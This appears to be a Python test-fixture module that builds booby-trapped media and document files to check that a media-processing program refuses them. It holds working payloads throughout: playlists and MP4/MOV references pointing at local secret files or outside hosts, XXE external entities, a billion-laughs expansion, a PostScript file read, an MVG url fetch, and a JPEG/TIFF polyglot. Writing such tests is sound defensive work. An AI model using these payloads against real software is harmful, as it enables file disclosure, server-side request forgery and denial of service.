"""Files that ask whoever opens them for another file (`{secret}`) or to call somebody (`{call}`, a URL)."""

import io
import struct
from collections.abc import Callable
from pathlib import Path

from PIL import Image

from tests.media.editing import box, replace
from tests.media.photos import corner

_HLS = (
    "#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXT-X-PLAYLIST-TYPE:VOD\n{more}#EXTINF:5,\n{target}\n#EXT-X-ENDLIST\n"
)
_DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period>'
    '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{target}</BaseURL>'
    "</Representation></AdaptationSet></Period></MPD>"
)
_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><image href="{target}"/></svg>'
_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'
)
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{("&" + before + ";") * 10}">'
    for before, name in zip("abcdefghi", "bcdefghij", strict=True)
)

PLAYLISTS: dict[str, str] = {
    "hls to a file": _HLS.format(more="", target="{secret}"),
    "hls to a host": _HLS.format(more="", target="{call}/clip.ts"),
    "hls for its key": _HLS.format(more='#EXT-X-KEY:METHOD=AES-128,URI="{call}/key"\n', target="{secret}"),
    "hls for its map": _HLS.format(more='#EXT-X-MAP:URI="file://{secret}"\n', target="{secret}"),
    "ffconcat": "ffconcat version 1.0\nfile '{secret}'\n",
    "ffconcat to a host": "ffconcat version 1.0\nfile '{call}/clip.mp4'\n",
    "dash to a file": _DASH.format(target="{secret}"),
    "dash to a host": _DASH.format(target="{call}/clip.mp4"),
    "m3u": "#EXTM3U\n{call}/clip.mp3\n",
    "pls": "[playlist]\nFile1={call}/clip.mp3\nNumberOfEntries=1\n",
    "asx": '<asx version="3.0"><entry><ref href="{call}/clip.wmv"/></entry></asx>',
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n",
    "smil": '<smil><body><video src="{call}/clip.mp4"/></body></smil>',
}
DOCUMENTS: dict[str, str] = {
    "svg to a file": _SVG.format(target="file://{secret}"),
    "svg to a host": _SVG.format(target="{call}/pixel.png"),
    "entity from a file": _ENTITY.format(target="file://{secret}"),
    "entity from a host": _ENTITY.format(target="{call}/entity"),
    "billion laughs": _LAUGHS + "]><svg>&j;</svg>",
    "postscript": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
    "({secret}) (r) file 99 string readstring pop =\n",
    "mvg": "push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url({call}/x)'\npop graphic-context\n",
    "html": '<html><video src="file://{secret}"></video><img src="{call}/x"></html>',
}

Lure = Callable[[Path, Path, str], bytes]


def film_elsewhere(plain: Path, secret: Path, call: str) -> bytes:
    """A film whose frames lie in another file (ISO/IEC 14496-12, 8.7.2)."""
    target = box("url ", bytes(4), f"file://{secret}".encode(), b"\0")
    return replace(plain.read_bytes(), "moov/trak/mdia/minf/dinf/dref", struct.pack(">II", 0, 1) + target)


def film_elsewhere_by_apple(plain: Path, secret: Path, call: str) -> bytes:
    """The same by an alias of QuickTime's, with its path in the place that ffmpeg reads."""
    path = str(secret).encode()
    fixed = bytes(4) + struct.pack(">IH", 0, 2).rjust(10, b"\0").ljust(140, b"\0")
    alias = (
        fixed + struct.pack(">HH", 18, len(path)) + path + bytes(len(path) % 2) + struct.pack(">hH", -1, 0)
    )
    target = box("alis", bytes(4), alias)
    return replace(plain.read_bytes(), "moov/trak/mdia/minf/dinf/dref", struct.pack(">II", 0, 1) + target)


def reference_film(plain: Path, secret: Path, call: str) -> bytes:
    """A MOV that is nothing but the address of another (QuickTime's `rmra`)."""
    address = f"{call}/clip.mov".encode() + b"\0"
    reference = box("rdrf", bytes(4), b"url ", struct.pack(">I", len(address)), address)
    return box("ftyp", b"qt  ", bytes(4), b"qt  ") + box("moov", box("rmra", box("rmda", reference)))


def photo_with_entity(plain: Path, secret: Path, call: str) -> bytes:
    """A photo whose XMP asks for a file and for a host."""
    xmp = (
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}"><!ENTITY b SYSTEM "{call}/xmp">]>'
        "<x:xmpmeta xmlns:x='adobe:ns:meta/'>&a;&b;</x:xmpmeta>"
    )
    kept = io.BytesIO()
    corner().save(kept, "JPEG", xmp=xmp.encode())
    return kept.getvalue()


def photo_with_postscript(plain: Path, secret: Path, call: str) -> bytes:
    """A TIFF by its first bytes, PostScript for those who read on."""
    kept = io.BytesIO()
    Image.new("RGB", (16, 16)).save(kept, "TIFF")
    return kept.getvalue() + DOCUMENTS["postscript"].format(secret=secret).encode()


FILES: dict[str, Lure] = {
    "film elsewhere": film_elsewhere,
    "film elsewhere, by Apple": film_elsewhere_by_apple,
    "reference film": reference_film,
    "photo with entities": photo_with_entity,
    "photo with PostScript": photo_with_postscript,
}
